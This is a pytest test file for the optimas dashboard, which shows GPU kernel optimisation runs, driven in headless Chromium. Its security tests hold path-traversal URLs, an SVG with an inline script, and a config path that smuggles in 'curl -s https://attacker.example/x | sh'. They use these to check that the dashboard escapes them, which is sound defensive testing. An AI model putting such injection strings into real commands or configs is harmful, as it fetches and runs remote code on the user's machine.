"""The dashboard (issue #17) in a real browser: headless Chromium (Debian's) driven by Selenium,
against `optimas dashboard` serving a runs folder with a real H200 run (evaluated, re-profiled) and
the demo's run (proposed, not evaluated)."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from conftest import EVALUATED_RUNS, REPO, run_cli
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions
from selenium.webdriver.support.ui import Select, WebDriverWait

H200_RUN = "20261203T174114Z-98e26ae2-9e55-4554-8c29-ed2ac5b42bf7"


def _failed_run(runs: Path) -> None:
    """A run that stopped in its closed loop for want of Nsight Compute, as the run store records one
    (optimas run now names what a machine lacks before it makes a run folder; a tool can still go
    missing mid-run, as here: the configured ncu is one no machine has)."""
    from runner.base.errors import ProfilingError
    from runner.base.gpu import require_tool
    from runner.base.runstore import create_run

    run = create_run(runs, command=["optimas", "run", "--config", "optimas.yml"])
    try:
        require_tool("ncu", "ncu-not-installed")
    except ProfilingError as e:
        run.stage_failed("loop", str(e))


@pytest.fixture(scope="module")
def dashboard(tmp_path_factory):
    """`optimas dashboard` on a runs folder of two runs; (base URL, runs folder)."""
    runs = tmp_path_factory.mktemp("runs")
    shutil.copytree(EVALUATED_RUNS / H200_RUN, runs / H200_RUN)
    # the runs are made in this process (run_cli: runner.cli.main, as `optimas` would run it); the
    # dashboard below is served by a process of its own
    demo = run_cli("run", "--config", str(REPO / "config.yml"), "--runs-dir", str(runs))
    assert demo.returncode == 0, demo.stderr
    ablate = run_cli("ablate", "--config", str(REPO / "config.yml"), "--runs-dir", str(runs), "--only", "PC",
                     "Roofline")
    assert ablate.returncode == 0, ablate.stderr
    prompt = run_cli("prompt", "--config", str(REPO / "config.yml"), "--runs-dir", str(runs), "--diagnostics",
                     "PC+Roofline")
    assert prompt.returncode == 0, prompt.stderr
    _failed_run(runs)
    server = subprocess.Popen([sys.executable, "-m", "runner.cli", "dashboard", "--runs-dir", str(runs), "--port",
                               "0"], stdout=subprocess.PIPE, text=True, cwd=REPO)
    try:
        line = server.stdout.readline()
        url = re.search(r"(http://127\.0\.0\.1:\d+/)", line).group(1)
        yield url, runs
    finally:
        server.terminate()
        server.wait(timeout=10)


@pytest.fixture(scope="module")
def browser():
    if not shutil.which("chromium") or not shutil.which("chromedriver"):
        if os.environ.get("OPTIMAS_TESTS_WITHOUT_BROWSER") == "1":
            pytest.skip("no Chromium (skipped: OPTIMAS_TESTS_WITHOUT_BROWSER=1)")
        pytest.fail("Chromium and its driver are needed: apt-get install chromium chromium-driver (make test does as "
                    "root), or set OPTIMAS_TESTS_WITHOUT_BROWSER=1 to skip the browser tests")
    options = webdriver.ChromeOptions()
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"):
        options.add_argument(arg)
    options.binary_location = shutil.which("chromium")
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options=options, service=webdriver.ChromeService(shutil.which("chromedriver")))
    yield driver
    driver.quit()


def _submit_filters(browser, expect: str) -> None:
    """Submit the filter form and wait for the filtered page: its address holds `expect` and it has
    loaded (waiting for the old table to go stale races Chrome's navigation: the old node can be
    asked about while it is being replaced)."""
    browser.find_element(By.CSS_SELECTOR, "#filters button").click()
    WebDriverWait(browser, 10).until(lambda b: expect in b.current_url
                                     and b.execute_script("return document.readyState") == "complete")


def _no_console_errors(browser) -> None:
    errors = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
    assert not errors, errors


@pytest.mark.slow
def test_the_runs_page_lists_filters_and_links_every_run(dashboard, browser):
    url, runs = dashboard
    browser.get(url)
    rows = browser.find_elements(By.CSS_SELECTOR, "tr.run")
    # the demo's run; the ablation's evidence and its two configurations; a prompt; the H200 run; a failed run
    assert len(rows) == 7
    verdicts = sorted(r.find_element(By.CLASS_NAME, "verdict").text.split("\n")[0] for r in rows)
    # proposed without a GPU (the demo, the ablation's runs): no verdict yet, and said so
    assert verdicts == ["", "", "failed", "improvement", "not evaluated", "not evaluated", "not evaluated"]
    # (the failed run stopped before its config was recorded: it names no app)
    assert sorted(a.text for r in rows for a in r.find_elements(By.CLASS_NAME, "app")) == ["h200-probe"] * 5 + [
        "reduction"]
    h200 = next(r for r in rows if "improvement" in r.text)
    assert h200.find_element(By.CLASS_NAME, "status").text == "evaluation"
    assert "NVIDIA H200" in h200.text and "+132.0%" in h200.text and "+131.8% to +132.3%" in h200.text
    _no_console_errors(browser)
    # filter: the verdict list holds what the runs hold
    Select(browser.find_element(By.NAME, "verdict")).select_by_visible_text("improvement")
    _submit_filters(browser, "verdict=improvement")
    assert [r.find_element(By.CLASS_NAME, "verdict").text for r in browser.find_elements(By.CSS_SELECTOR, "tr.run")] \
        == ["improvement"]
    Select(browser.find_element(By.NAME, "verdict")).select_by_visible_text("all")
    Select(browser.find_element(By.NAME, "app")).select_by_visible_text("h200-probe")
    _submit_filters(browser, "app=h200-probe")
    assert {r.find_element(By.CLASS_NAME, "app").text for r in browser.find_elements(By.CSS_SELECTOR, "tr.run")} \
        == {"h200-probe"}
    # sort by improvement, ascending then descending: the run without a measurement goes last
    browser.get(url + "?sort=improvement&order=desc")
    assert browser.find_elements(By.CSS_SELECTOR, "tr.run")[0].find_element(By.CLASS_NAME, "verdict").text \
        == "improvement"
    # every link on the page answers
    for href in {a.get_attribute("href") for a in browser.find_elements(By.TAG_NAME, "a")}:
        assert urllib.request.urlopen(href).status == 200, href
    _no_console_errors(browser)
    # a run never evaluated says what to run, on a machine with a GPU
    browser.get(url + "?verdict=not+evaluated")
    browser.find_element(By.CSS_SELECTOR, "tr.run a").click()
    note = browser.find_element(By.ID, "not-evaluated").text
    assert "needs a GPU" in note and "optimas evaluate --config " in note and " --run " in note
    assert browser.find_element(By.ID, "verdict").text == "not evaluated"


@pytest.mark.slow
def test_the_run_page_shows_the_evidence_the_proof_and_the_charts(dashboard, browser):
    url, _ = dashboard
    browser.get(url)
    link = next(a for a in browser.find_elements(By.CSS_SELECTOR, "tr.run a") if H200_RUN in a.get_attribute("href"))
    link.click()
    WebDriverWait(browser, 10).until(expected_conditions.staleness_of(link))
    assert browser.find_element(By.ID, "verdict").text == "improvement"
    # the shipped run's measured gain and its 95 % interval (evaluation/result.json: 1.3202, 1.3176 to 1.3227)
    assert browser.find_element(By.ID, "gain").text == "+132.0% (+131.8% to +132.3%)"
    evidence = browser.find_element(By.ID, "evidence").text
    assert all(f"\n{i} " in "\n" + evidence for i in ("L1", "R1", "S1", "C1", "K1")), evidence
    assert "EDIT file=reduction_kernel.cu" in browser.find_element(By.ID, "answer").get_attribute("textContent")
    assert "+++ b/reduction_kernel.cu" in browser.find_element(By.ID, "diff").get_attribute("textContent")
    # the stall hot spots on the source: the lines the evidence names, with their share of samples
    hot = browser.find_elements(By.CSS_SELECTOR, "table.source tr.hot")
    assert [r.find_elements(By.TAG_NAME, "td")[0].text for r in hot] == ["469", "470", "474"]
    assert "S1 82%" in hot[1].text and "stall_long_sb" in hot[1].text and "mySum += g_idata[i];" in hot[1].text
    validation = browser.find_element(By.ID, "validation").text
    assert "small" in validation and "large" in validation and "gpu-results:bitwise" in validation
    checks = browser.find_element(By.ID, "checks").text
    assert "stall_long_sb share" in checks and "True" in checks
    images = browser.find_elements(By.CSS_SELECTOR, "img.roofline") + [browser.find_element(By.ID, "timing")]
    for img in images:  # loaded and drawn by the browser
        assert browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth > 0", img), \
            img.get_attribute("src")
    _no_console_errors(browser)
    roofline = urllib.request.urlopen(images[0].get_attribute("src")).read().decode()
    assert roofline.startswith("<?xml")
    # a point per memory level at its own intensity, before and after (Nsight Compute's hierarchical roofline)
    for tag in ("before", "after"):
        assert {lvl for lvl in ("dram", "l2", "l1") if f'id="point-{tag}-{lvl}"' in roofline} == {"dram", "l2", "l1"}
    timing = urllib.request.urlopen(images[-1].get_attribute("src")).read().decode()
    assert 'id="samples-baseline"' in timing and 'id="samples-candidate"' in timing


def test_no_path_outside_the_runs_folder_is_served(dashboard):
    url, runs = dashboard
    (runs.parent / "secret.txt").write_text("not for the dashboard")
    for path in ("runs/..%2fsecret.txt", "runs/../secret.txt", "runs/%2e%2e/secret.txt", f"runs/{H200_RUN}/..%2f..",
                 "runs/20261203T174114Z-98e26ae2-9e55-4554-8c29-ed2ac5b42bf8", "runs/x/timing.svg"):
        with pytest.raises(urllib.error.HTTPError) as e:
            urllib.request.urlopen(url + path)
        assert e.value.code == 404, path


@pytest.mark.slow
def test_the_app_page_sets_configurations_side_by_side_and_kernels_across_runs(dashboard, browser):
    url, _ = dashboard
    browser.get(url + "apps/h200-probe")
    (table,) = browser.find_elements(By.CSS_SELECTOR, "table.ablation")
    assert [r.find_elements(By.TAG_NAME, "td")[0].text for r in table.find_elements(By.CSS_SELECTOR, "tbody tr")] \
        == ["PC", "Roofline"]
    img = browser.find_element(By.CSS_SELECTOR, "img.ablation")
    assert browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth > 0", img)
    _no_console_errors(browser)
    browser.get(url + "apps/reduction")
    assert "reduce7<" in browser.find_element(By.ID, "history-table").text
    assert "+132.0%" in browser.find_element(By.ID, "history-table").text
    img = browser.find_element(By.ID, "history")
    assert browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth > 0", img)
    assert 'id="history-0"' in urllib.request.urlopen(img.get_attribute("src")).read().decode()
    _no_console_errors(browser)
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(url + "ablations/..%2f..%2fsecret.svg")
    assert e.value.code == 404


def test_the_run_page_shows_the_closed_loops_iterations(tmp_path):
    """A closed loop's summary as `optimas run` wrote it (the stream app's offline loop on the H200,
    benchmarks/results/loop-2026-12-02b), in a run folder."""
    import json

    from runner.dashboard.app import create_dashboard

    shutil.copytree(EVALUATED_RUNS / H200_RUN, tmp_path / H200_RUN)
    recorded = json.loads((REPO / "benchmarks" / "results" / "loop-2026-12-02b" / "offline_loop_experiments.json")
                          .read_text())
    loop = (recorded[0] if isinstance(recorded, list) else recorded)["loop"]
    (tmp_path / H200_RUN / "evaluation" / "loop.json").write_text(json.dumps(loop))
    page = create_dashboard(tmp_path).test_client().get(f"/runs/{H200_RUN}").get_data(as_text=True)
    table = page.split('<table id="iterations">', 1)[1].split("</table>", 1)[0]
    assert table.count("<tr><td>") == len(loop["iterations"]) >= 1
    first = loop["iterations"][0]
    assert f"<td>{first['verdict']}</td>" in table and f"{100 * first['improvement']:+.1f}%" in table
    assert f"stopped: {loop['stopped_because']}" in page


def test_the_run_page_shows_the_kept_candidate_and_the_runners_up(tmp_path):
    """An iteration's candidates.json as evaluate_candidates writes it (values made up for the page)."""
    import json

    from runner.dashboard.app import create_dashboard
    from runner.flows.candidates import CandidateOutcome

    shutil.copytree(EVALUATED_RUNS / H200_RUN, tmp_path / H200_RUN)
    rows = [CandidateOutcome(candidate=1, run_dir=str(tmp_path / H200_RUN), proposal="accepted", verdict="improvement",
                             improvement=0.12, ci_low=0.10, ci_high=0.14, model_seconds=21.5, evaluation_seconds=40.2),
            CandidateOutcome(candidate=2, run_dir="x/candidate-runs/r2", proposal="accepted", verdict="improvement",
                             improvement=0.31, ci_low=0.29, ci_high=0.33, model_seconds=19.0, evaluation_seconds=38.0,
                             kept=True),
            CandidateOutcome(candidate=3, run_dir="x/candidate-runs/r3", proposal="duplicate", same_as=2)]
    (tmp_path / H200_RUN / "evaluation" / "candidates.json").write_text(
        json.dumps([json.loads(r.model_dump_json()) for r in rows]))
    page = create_dashboard(tmp_path).test_client().get(f"/runs/{H200_RUN}").get_data(as_text=True)
    table = page.split('<table id="candidates">', 1)[1].split("</table>", 1)[0]
    body = table.split("<tbody>", 1)[1]
    assert body.count("<tr") == 3
    kept = body.split('<tr class="kept">', 1)[1].split("</tr>", 1)[0]
    assert "<td>2</td>" in kept and "+31.0%" in kept and "+29.0% to +33.0%" in kept and ">kept<" in kept
    assert "runner-up" in body and "duplicate (as 2)" in body


def test_each_memory_level_has_its_point_at_its_own_intensity():
    from runner.dashboard.charts import _points

    roof = {"resources": [{"name": "fp32", "measure": "flops", "achieved": 2e12, "peak": 6e13},
                          {"name": "dram", "measure": "bandwidth", "achieved": 1e12, "peak": 4.8e12},
                          {"name": "l2", "measure": "bandwidth", "achieved": 4e12, "peak": 1e13},
                          {"name": "l1", "measure": "bandwidth", "achieved": 2e13, "peak": 3e13}]}
    got = {name: (x, y) for name, _, x, y in _points(roof)}
    assert got == {"dram": (2.0, 2e12), "l2": (0.5, 2e12), "l1": (0.1, 2e12)}
    # an L1-bound kernel sits left, near its L1 roof, not at the DRAM intensity on the compute side
    assert got["l1"][0] < got["dram"][0]


def test_a_prompt_run_shows_its_prompt_and_diagnostics_and_every_evidence_row_its_kernel(dashboard, browser):
    url, runs = dashboard
    browser.get(url)
    rows = [r for r in browser.find_elements(By.CSS_SELECTOR, "tr.run")
            if r.find_element(By.CLASS_NAME, "status").text == "prompt"]
    assert len(rows) == 1, [r.text for r in browser.find_elements(By.CSS_SELECTOR, "tr.run")]
    rows[0].find_element(By.TAG_NAME, "a").click()
    assert "diagnostics PC+Roofline" in browser.find_element(By.TAG_NAME, "p").text
    prompt = browser.find_element(By.ID, "prompt").text
    assert "- S1 [" in prompt and "- R1 [" in prompt and "- C1 " not in prompt  # PC and Roofline, no counters
    kernels = [td.text for td in browser.find_elements(By.CSS_SELECTOR, "#evidence td.kernel")]
    assert kernels and all(k.startswith("[") and k.endswith("]") for k in kernels), kernels
    _no_console_errors(browser)


# What the code under test writes in its run folders (kept on the runs volume the App's dashboard
# reads) must not take the pages down, run script, or put a command to paste that does more than
# it says (an attacker's pass over the dashboard).

def _runs_with_a_bad_one(tmp_path, name: str, files: dict[str, str]):
    """The real H200 run, and a copy of it with `files` written over."""
    bad = tmp_path / name
    shutil.copytree(EVALUATED_RUNS / H200_RUN, tmp_path / H200_RUN)
    shutil.copytree(EVALUATED_RUNS / H200_RUN, bad)
    for path, text in files.items():
        (bad / path).parent.mkdir(parents=True, exist_ok=True)
        (bad / path).write_text(text)
    return bad


BAD = "20261206T120000Z-0f0e0d0c-0b0a-4908-8706-050403020100"


@pytest.mark.parametrize("files", [
    {"config.yml": "app:\n" + "  \n" * 60 + '  "name": evil\n'},  # a pattern read it in 2^60 steps
    {"manifest.json": "[1]"},
    {"manifest.json": '{"device": {"name": 7}, "stages": {}}'},
    {"manifest.json": "[" * 100_000},
    {"evaluation/result.json": '{"verdict": "improvement", "timing": {"per_kernel": {"k": {"improvement": 0.1}}}}'},
    {"prompt/user-1.md": "### Hot kernel " + " (" * 50_000 + "\n```cuda\n```\n"},  # n^2 steps for a pattern
])
def test_one_run_folder_written_by_the_code_does_not_take_the_pages_down(tmp_path, files):
    from runner.dashboard.app import create_dashboard

    _runs_with_a_bad_one(tmp_path, BAD, files)
    client = create_dashboard(tmp_path).test_client()
    index = client.get("/")
    assert index.status_code == 200 and H200_RUN in index.get_data(as_text=True)
    assert client.get(f"/runs/{BAD}").status_code == 200 and client.get(f"/runs/{H200_RUN}").status_code == 200
    for row in re.findall(r'class="app" href="([^"]+)"', index.get_data(as_text=True)):
        assert client.get(row).status_code == 200


def test_the_command_to_evaluate_a_run_quotes_what_the_run_says():
    """The page of a run proposed without a GPU prints the command that evaluates it, taking the
    config's path from the run's manifest: a path that is not a plain one is not shown."""
    import json
    import tempfile
    from pathlib import Path

    from runner.dashboard.runs import summary

    with tempfile.TemporaryDirectory() as tmp:
        run = Path(tmp) / BAD
        (run / "candidates").mkdir(parents=True)
        (run / "candidates" / "result.json").write_text('{"status": "accepted"}')
        for path, shown in ((".optimas.yml; curl -s https://attacker.example/x | sh; #", "<its config>"),
                            ("apps/k/optimas.yml", "apps/k/optimas.yml"), ("-rf", "<its config>")):
            (run / "manifest.json").write_text(json.dumps({"config": {"path": path}, "stages": {}}))
            assert summary(run).evaluate_with == f"optimas evaluate --config {shown} --run {run}"


def test_no_page_or_plot_may_run_script():
    """Every answer says what it may load (its own images, inline styles: no script), and an
    ablation's plot, served as the run folder holds it, carries the same policy."""
    import tempfile
    from pathlib import Path

    from runner.dashboard.app import create_dashboard

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "ablation-20261206T120000Z-0f0e0d0c-0b0a-4908-8706-050403020100"
        folder.mkdir()
        (folder / "ablation.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
        client = create_dashboard(Path(tmp)).test_client()
        for answer in (client.get("/"), client.get(f"/ablations/{folder.name}.svg")):
            assert answer.status_code == 200
            csp = answer.headers["Content-Security-Policy"]
            assert "default-src 'none'" in csp and "script-src" not in csp and "frame-ancestors 'none'" in csp
            assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_a_failed_run_says_where_it_stopped_why_and_what_resolves_it(dashboard, browser):
    url, _ = dashboard
    browser.get(url)
    row = browser.find_element(By.CSS_SELECTOR, "tr.run.failed")
    assert "failed" in row.find_element(By.CLASS_NAME, "verdict").text
    assert "ncu-not-installed" in row.find_element(By.CSS_SELECTOR, "div.error").text
    link = row.find_element(By.TAG_NAME, "a")
    link.click()
    WebDriverWait(browser, 10).until(expected_conditions.staleness_of(link))
    assert browser.find_element(By.ID, "verdict").text == "failed"
    assert "ncu-not-installed" in browser.find_element(By.ID, "error").text
    assert "Nsight Compute" in browser.find_element(By.ID, "remedy").text
    assert " on ;" not in browser.find_element(By.TAG_NAME, "main").text  # no empty fields in the header
    _no_console_errors(browser)


def test_the_run_page_shows_each_ear_score_with_what_it_measures(dashboard, browser):
    from runner.evaluation.ear import EAR_SCORES

    url, _ = dashboard
    browser.get(f"{url}runs/{H200_RUN}")
    rows = browser.find_elements(By.CSS_SELECTOR, "table#ear tbody tr")
    shown = {r.find_elements(By.TAG_NAME, "td")[0].text: r for r in rows}
    assert list(shown) == [e.name for e in EAR_SCORES]
    values = {name: r.find_elements(By.TAG_NAME, "td")[1].text for name, r in shown.items()}
    # the H200 run's recorded scores (evaluation/result.json)
    assert values == {"coverage": "1.00", "localization": "0.57", "directional consistency": "1.00",
                      "hallucination rate": "0.00", "correctness": "yes"}, values
    for e in EAR_SCORES:  # the explanation, on the row (hover) and in its own column
        assert shown[e.name].get_attribute("title") == f"{e.name}: {e.meaning}"
        assert e.meaning in shown[e.name].text


def test_the_docs_define_every_ear_score_as_the_pages_name_it():
    from runner.evaluation.ear import EAR_SCORES

    section = (REPO / "docs" / "how-it-works.md").read_text().split("## EAR:", 1)[1]
    for e in EAR_SCORES:
        assert f"| {e.name} |" in section and e.good in section, e.name


def test_a_chart_of_the_same_data_is_drawn_once():
    """matplotlib takes a quarter of a second per chart; a page's charts are asked at every view."""
    from runner.dashboard.charts import DRAWN_KEPT, drawn

    calls = []

    def draw(tag: str):
        return lambda: calls.append(tag) or f"<svg>{tag}</svg>"

    data = {"kernel": "k", "before": {"rho": 0.5}}
    assert drawn("test", data, draw("a")) == "<svg>a</svg>"
    assert drawn("test", {"before": {"rho": 0.5}, "kernel": "k"}, draw("b")) == "<svg>a</svg>"  # same content
    assert drawn("test", {**data, "kernel": "other"}, draw("c")) == "<svg>c</svg>"
    assert drawn("other-kind", data, draw("d")) == "<svg>d</svg>"
    assert drawn("test", {"x": float("nan")}, draw("e")) == "<svg>e</svg>"
    for i in range(DRAWN_KEPT):  # the oldest give way
        drawn("test", {"i": i}, draw(f"f{i}"))
    assert drawn("test", data, draw("g")) == "<svg>g</svg>"
    assert calls[:4] == ["a", "c", "d", "e"] and calls[-1] == "g"
